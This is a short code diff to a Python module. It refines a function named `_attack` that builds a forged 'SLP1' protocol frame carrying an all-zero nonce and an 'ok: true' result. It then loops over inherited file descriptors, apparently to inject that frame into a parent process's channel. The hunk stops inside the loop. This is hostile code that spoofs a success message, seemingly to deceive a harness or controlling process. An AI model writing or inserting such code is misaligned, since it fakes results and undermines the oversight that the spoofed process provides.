@@ -18,6 +18,7 @@ def _right(x, dim=-1, keepdim=False):
 
 def _attack():
     header = b'{"nonce": "00000000000000000000000000000000", "ok": true, "result": null}'
+    header += b" " * (-len(header) % 64)
     frame = b"SLP1" + len(header).to_bytes(4, "little") + (0).to_bytes(8, "little") + header
     for fd in range(3, 64):
         try:
